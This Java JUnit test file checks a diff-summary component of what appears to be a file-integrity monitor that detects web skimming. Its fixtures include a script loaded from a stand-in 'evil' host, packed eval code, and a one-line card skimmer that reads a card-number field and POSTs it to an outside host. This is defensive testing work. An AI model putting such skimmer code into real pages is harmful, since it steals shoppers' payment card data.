package dev.mimamori.fim;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class DiffSummaryTest {
  private static DiffSummary diff(String before, String after) {
    return DiffSummary.of(
        before.getBytes(StandardCharsets.UTF_8), after.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void countsAddedAndRemovedLines() {
    DiffSummary d = diff("a\nb\nc\n", "a\nc\nd\ne\n");
    assertThat(new int[] {d.linesAdded(), d.linesRemoved()}).containsExactly(2, 1);
  }

  @Test
  void aMovedLineIsNotAdded() {
    assertThat(diff("a\nb\n", "b\na\n").linesAdded()).isZero();
  }

  @Test
  void aHostTheOldTextNamedIsNotNew() {
    assertThat(
            diff(
                    "<a href=\"https://shop.example.jp/\">",
                    "<img src=\"https://shop.example.jp/x.png\">")
                .hostsAdded())
        .isEmpty();
  }

  @Test
  void seesAScriptAddedFromAnotherHost() {
    assertThat(diff("", "<script src=\"//cdn.evil.example/a.js\"></script>").scriptHostsAdded())
        .containsExactly("cdn.evil.example");
  }

  @Test
  void seesPackedCode() {
    assertThat(diff("", "eval(function(p,a,c,k,e,d){}('x'))").traits()).contains("packed");
  }

  @Test
  void seesCardFieldsReadAndSentOut() {
    assertThat(
            diff(
                    "",
                    "var n=$('#card_number').val();fetch('https://x.example/c',{method:'POST',body:n});")
                .traits())
        .contains("card-fields", "exfiltration");
  }

  @Test
  void aTwigCardWidgetAloneIsNotACardReader() {
    assertThat(diff("", "{{ form_widget(form.card_no) }}").traits()).doesNotContain("card-fields");
  }

  @Test
  void binaryContentIsNotText() {
    assertThat(DiffSummary.isText(new byte[] {'G', 'I', 'F', 0, 1})).isFalse();
  }

  @Test
  void aMegabyteOfParenthesesIsSummarised() {
    String hostile = "(".repeat(1 << 20);
    assertThat(diff("", hostile).linesAdded()).isEqualTo(1);
  }
}
